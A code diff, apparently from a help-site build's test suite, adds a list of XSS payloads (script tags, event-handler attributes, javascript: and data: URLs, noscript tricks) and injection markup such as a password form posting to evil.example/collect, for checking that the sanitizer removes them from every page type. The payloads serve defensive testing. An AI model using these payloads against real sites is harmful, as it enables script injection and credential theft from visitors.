@@ -114,3 +114,113 @@ ESCAPE_CONFIG = {
     "extra.kb.categories.hostile-text": {lang: ESCAPE_CATEGORY for lang in ("en", "sl", "lv")},
     "extra.kb.featured": ["hostile-0", "hostile-3"],
 }
+
+
+#: Raw HTML and attribute lists that must never run, load or navigate on the help site, each
+#: with what the build names when it takes it out. A payload that ran would set
+#: `window.kbPwned` or open a dialog.
+HTML_PAYLOADS = [
+    (
+        '<script>window.kbPwned = "script"; alert("script")</script>',
+        ["<script>"],
+    ),
+    (
+        "<img src=\"missing.png\" onerror=\"window.kbPwned = 'img'; alert('img')\">",
+        ["the onerror attribute of <img>"],
+    ),
+    (
+        "<svg onload=\"window.kbPwned = 'svg'; alert('svg')\"><circle r=\"5\"/></svg>",
+        ["<svg>"],
+    ),
+    (
+        "<details open ontoggle=\"window.kbPwned = 'details'; alert('details')\">"
+        "<summary>More</summary>Hidden text</details>",
+        ["the ontoggle attribute of <details>"],
+    ),
+    (
+        "A paragraph that wants to be clicked.\n"
+        "{ onclick=\"window.kbPwned = 'attr_list'\" onmouseover=\"window.kbPwned = 'hover'\" }",
+        ["the onclick attribute of <p>", "the onmouseover attribute of <p>"],
+    ),
+    (
+        "A box that focuses itself.\n"
+        '{ tabindex="0" autofocus onfocus="window.kbPwned = \'focus\'" }',
+        [
+            "the autofocus attribute of <p>",
+            "the onfocus attribute of <p>",
+            "the tabindex attribute of <p>",
+        ],
+    ),
+    (
+        "[Click me](javascript:void(window.kbPwned=1))",
+        ["the address javascript:void(window.kbPwned=1)"],
+    ),
+    (
+        '<iframe src="https://evil.example/frame" srcdoc="<script>parent.kbPwned=1</script>"></iframe>',
+        ["<iframe>"],
+    ),
+    (
+        '<form action="https://evil.example/collect" method="post">'
+        '<input name="password" type="password"><button type="submit">Sign in</button></form>',
+        ["<form>", '<input type="password">', "the name attribute of <input>"],
+    ),
+    (
+        "<noscript><p title=\"</noscript><img src=x onerror=window.kbPwned='noscript'>\"></noscript>",
+        ["<noscript>"],
+    ),
+    ('<base href="https://evil.example/">', ["<base>"]),
+    ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', ["<meta>"]),
+    (
+        "[Data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        ["the address data:text/html;base64,PHNjcmlwdD5hbGVyd…"],
+    ),
+    (
+        "![Pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+        ["the image address data:image/svg+xml;base64,PHN2ZyBvbmxvY…"],
+    ),
+    ("[VB](vbscript:msgbox(1))", ["the address vbscript:msgbox(1)"]),
+    (
+        '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Overlay</p>',
+        ["the style attribute of <p>"],
+    ),
+    ("<style>body { display: none }</style>", ["<style>"]),
+    (
+        '<object data="https://evil.example/x.swf">Plugin needed</object><embed src="https://evil.example/y.swf">',
+        ["<embed>", "<object>"],
+    ),
+    ('<link rel="stylesheet" href="https://evil.example/x.css">', ["<link>"]),
+]
+
+
+def _hostile_body() -> str:
+    """Every payload, each in its own block."""
+    return "\n\n".join(markdown for markdown, _ in HTML_PAYLOADS) + "\n"
+
+
+#: Every page type with every payload: home page, a section index, an FAQ entry (and its
+#: translation), a guide and an email template.
+HTML_DOCS = {
+    **BASE_DOCS,
+    "index.md": "# Help\n\n<!-- kb:home -->\n\n" + _hostile_body(),
+    "faq/index.md": "# FAQ\n\n<!-- kb:faq-index -->\n\n" + _hostile_body(),
+    "faq/hostile-html.md": (
+        "---\nsummary: Raw HTML.\ncategory: contacting-support\n---\n\n"
+        "# Can an answer hold HTML?\n\nSome of it.\n\n" + _hostile_body()
+    ),
+    "faq/hostile-html.sl.md": (
+        "---\nsummary: Surovi HTML.\n---\n\n# Ali odgovor lahko vsebuje HTML?\n\n" + _hostile_body()
+    ),
+    "guides/hostile-steps.md": (
+        "---\nsummary: Steps with HTML.\ncategory: contacting-support\n---\n\n"
+        "# How to paste HTML\n\nWhat this achieves.\n\n### Paste it\n\n" + _hostile_body()
+    ),
+    "templates/hostile-template.md": (
+        "---\nsummary: A template with HTML.\nsubjects:\n  - Hello from [company]\n---\n\n"
+        "# Hostile template\n\n<!-- kb:subjects -->\n\n" + _hostile_body()
+        + '\n```text title="Body"\nHello [name], <script>this is text</script>\n```\n'
+    ),
+}  # fmt: skip
+
+#: The built pages of HTML_DOCS, one of each type.
+HTML_PAGES = ["", "faq/", "faq/hostile-html/", "sl/faq/hostile-html/", "guides/hostile-steps/",
+              "templates/hostile-template/"]  # fmt: skip
